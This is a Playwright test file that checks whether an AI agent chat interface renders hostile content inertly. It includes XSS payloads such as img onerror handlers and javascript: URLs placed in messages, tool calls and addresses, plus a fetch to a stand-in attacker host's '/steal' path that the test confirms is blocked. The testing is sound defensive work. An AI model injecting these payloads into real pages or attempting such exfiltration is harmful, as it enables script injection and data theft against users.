import { join } from "node:path";
import { expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { testGateway } from "../../support/gateway.ts";
import { withBrowser } from "./browser.ts";
import { EVIL, expectHarmless, PAYLOADS } from "./payloads.ts";
import { idle, openChat, say, toolCall } from "./chat-page.ts";

async function clickAll(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll(".markdown *, .tool-body *")) {
      for (const type of ["mouseover", "focus", "click"]) {
        if (type === "click" && element.closest("a[target=_blank], button, summary")) continue;
        element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
      }
    }
  });
}

withBrowser("hostile content", (browser) => {
  test("in the agent's words, streamed and read anew: nothing runs, nothing leaves the origin", async () => {
    await using nest = testGateway();
    // Read back by the scripted model as its own words, newlines and all.
    await Bun.write(join(nest.dir, "vault", "hostile.md"), PAYLOADS.join("\n\n"));
    await using tab = await openChat(browser(), nest);
    const { page } = tab;
    await say(page, toolCall("read", { path: "hostile.md" }));
    await page.locator(".prose", { hasText: "Done. The last tool said" }).waitFor();
    await idle(page);
    // It is all there, as text.
    expect(await page.locator(".prose").last().textContent()).toContain("onerror=window.__ran=27");
    await clickAll(page);
    await expectHarmless(tab, nest.url);
    await tab.shot("hostile");
    await page.reload();
    await page.locator(".prose", { hasText: "Done. The last tool said" }).waitFor();
    await clickAll(page);
    await expectHarmless(tab, nest.url);
  });

  test("in prompts, tool output, arguments, thoughts, names and errors", async () => {
    await using nest = testGateway();
    await Bun.write(join(nest.dir, "vault", "hostile.md"), PAYLOADS.join("\n"));
    await using tab = await openChat(browser(), nest);
    const { page } = tab;
    const [script, image] = PAYLOADS as [string, string];
    await say(
      page,
      [
        `@think ${image} ${script}`,
        toolCall("bash", { command: `cat hostile.md; echo '${image}'` }),
        toolCall("write", { path: `${image}.md`, content: PAYLOADS.join("\n") }),
        toolCall("edit", { path: "hostile.md", edits: [{ oldText: script, newText: image }] }),
        toolCall(image.replaceAll(" ", "_"), { [image]: script }),
        toolCall("read", { path: image }),
        `@say ${script} ${image}`,
      ].join("\n"),
    );
    await idle(page);
    for (const line of await page.locator(".tool > .line, details > .line").all()) {
      if ((await line.getAttribute("aria-expanded")) !== "true") await line.click();
    }
    await page.getByRole("button", { name: "Rename this conversation" }).click();
    await page.getByLabel("What this conversation is about").fill(`${image} ${script}`);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "<img src=x" }).first().waitFor();
    await clickAll(page);
    await expectHarmless(tab, nest.url);
  });

  test("in the address: paths, searches and sessions are names and nothing else", async () => {
    await using nest = testGateway();
    await using tab = await openChat(browser(), nest);
    for (const path of [
      `/s/${encodeURIComponent(PAYLOADS[1] as string)}`,
      `/v/${encodeURIComponent(PAYLOADS[1] as string)}`,
      `/v/javascript:window.__ran=1`,
      `/search?q=${encodeURIComponent(PAYLOADS[0] as string)}`,
      `/?q=<img src=x onerror=window.__ran=1>#<img src=x onerror=window.__ran=1>`,
      `/v/%00%ff`,
    ]) {
      await tab.page.goto(nest.url + path);
      await tab.page.locator(".app").waitFor();
      await expectHarmless(tab, nest.url);
    }
  });

  test("a script that ran all the same could make no markup, no code and no request to elsewhere", async () => {
    await using nest = testGateway();
    await using tab = await openChat(browser(), nest);
    const outcome = await tab.page.evaluate(async (evil) => {
      const refused = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      const inline = document.createElement("script");
      return {
        markup: refused(() => (document.body.innerHTML = "<b>x</b>")),
        write: refused(() => document.write("<b>x</b>")),
        source: refused(() => (inline.src = `${evil}/x.js`)),
        policy: refused(() =>
          (
            window as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): void };
            }
          ).trustedTypes.createPolicy("mine", {}),
        ),
        request: await fetch(`${evil}/steal`).then(
          () => false,
          () => true,
        ),
      };
    }, EVIL);
    expect(outcome).toEqual({
      markup: true,
      write: true,
      source: true,
      policy: true,
      request: true,
    });
    expect(tab.requests.filter((url) => url.startsWith(EVIL))).toEqual([]);
  });
});
